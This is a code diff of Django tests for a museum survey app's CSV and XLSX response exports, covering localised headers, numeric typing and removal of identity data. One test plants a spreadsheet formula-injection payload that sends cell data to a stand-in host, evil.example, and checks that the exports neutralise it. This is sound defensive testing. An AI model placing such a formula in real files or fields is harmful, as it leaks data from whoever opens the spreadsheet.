@@ -1,11 +1,9 @@
-import csv
-import io
-
 import pytest
 from django.urls import reverse
 
 from surveys.models import Campaign
 from surveys.services.responses import response_submit
+from tests.support.exports import read_csv, read_xlsx
 from tests.surveys.factories import (
     CampaignFactory,
     InvitationFactory,
@@ -65,32 +63,59 @@ def test_staff_pages_are_for_survey_managers(client, alice, charlie, campaign):
         assert client.get(reverse("surveys:responses-csv", args=[campaign.pk])).status_code == 403
 
 
-def test_responses_export_as_csv_with_stable_columns_and_no_identity(client, sofie, campaign):
+def test_responses_export_as_csv_with_the_questions_texts_and_no_identity(client, sofie, campaign):
     response = answered(campaign)
     client.force_login(sofie)
     export = client.get(reverse("surveys:responses-csv", args=[campaign.pk]))
-    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
+    rows = read_csv(export, delimiter=";")  # sofie reads Dutch
     questions = list(campaign.survey.questions.order_by("position"))
     assert rows[0] == [
-        "response",
-        "submitted_at",
-        "museum",
-        "visit_month",
-        "language",
-        "age_group",
-        "region",
-        *(f"q{q.pk}" for q in questions),
+        "Antwoord",
+        "Ingediend",
+        "Museum",
+        "Maand van het bezoek",
+        "Taal",
+        "Leeftijdsgroep",
+        "Regio",
+        *(q.text_nl for q in questions),
     ]
     assert rows[1][0] == str(response.pk)
-    assert rows[1][7:] == ["8", "4", "family", "alone;friends", "Goed, maar te druk"]
+    assert rows[1][2] == response.museum.name
+    assert rows[1][4:7] == ["Nederlands", response.age_group, "Vlaanderen"]
+    assert rows[1][7:] == ["8", "4", "Met familie", "Alleen; Met vrienden", "Goed, maar te druk"]
     holder = response.invitation.holder
     assert all(holder.email not in cell and holder.external_id not in cell for cell in rows[1])
 
 
-def test_the_responses_csv_neutralises_formulas_in_comments_and_museum_ids(client, sofie, campaign):
+def test_responses_export_in_english_uses_commas_and_english_texts(client, sofie, campaign):
+    answered(campaign)
+    client.force_login(sofie)
+    client.cookies["django_language"] = "en"
+    rows = read_csv(client.get(reverse("surveys:responses-csv", args=[campaign.pk])), delimiter=",")
+    questions = list(campaign.survey.questions.order_by("position"))
+    assert rows[0][:3] == ["Response", "Submitted", "Museum"]
+    assert rows[0][7:] == [q.text_en for q in questions]
+    assert rows[1][9:11] == ["With family", "Alone; With friends"]
+
+
+def test_responses_export_as_xlsx_with_numbers_as_numbers(client, sofie, campaign):
+    response = answered(campaign, score=9)
+    client.force_login(sofie)
+    rows = read_xlsx(client.get(reverse("surveys:responses-xlsx", args=[campaign.pk])))
+    questions = list(campaign.survey.questions.order_by("position"))
+    assert rows[0][2] == "Museum" and rows[0][7:] == [q.text_nl for q in questions]
+    assert rows[1][0] == response.pk and rows[1][2] == response.museum.name
+    assert rows[1][7:9] == [9, 4]
+    assert all(isinstance(value, int) for value in rows[1][7:9])
+    assert rows[1][9:] == ["Met familie", "Alleen; Met vrienden", "Goed, maar te druk"]
+
+
+def test_the_responses_exports_neutralise_formulas_in_comments_and_museum_names(
+    client, sofie, campaign
+):
     formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik hier")'
     invitation, _token = invitation_with_link(campaign=campaign)
-    invitation.museum.external_id = formula
+    invitation.museum.name = formula
     invitation.museum.save()
     questions = {q.kind: q for q in campaign.survey.questions.all()}
     response_submit(
@@ -104,10 +129,11 @@ def test_the_responses_csv_neutralises_formulas_in_comments_and_museum_ids(clien
         },
     )
     client.force_login(sofie)
-    export = client.get(reverse("surveys:responses-csv", args=[campaign.pk]))
-    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
+    rows = read_csv(client.get(reverse("surveys:responses-csv", args=[campaign.pk])), delimiter=";")
     assert rows[1][2] == f"'{formula}"
-    assert rows[1][7:] == ["0", "1", "family", "alone", f"'{formula}"]
+    assert rows[1][7:] == ["0", "1", "Met familie", "Alleen", f"'{formula}"]
+    sheet = read_xlsx(client.get(reverse("surveys:responses-xlsx", args=[campaign.pk])))
+    assert sheet[1][2] == f"'{formula}" and sheet[1][-1] == f"'{formula}"
 
 
 def test_the_responses_api_is_cursor_paginated_in_a_fixed_number_of_queries(
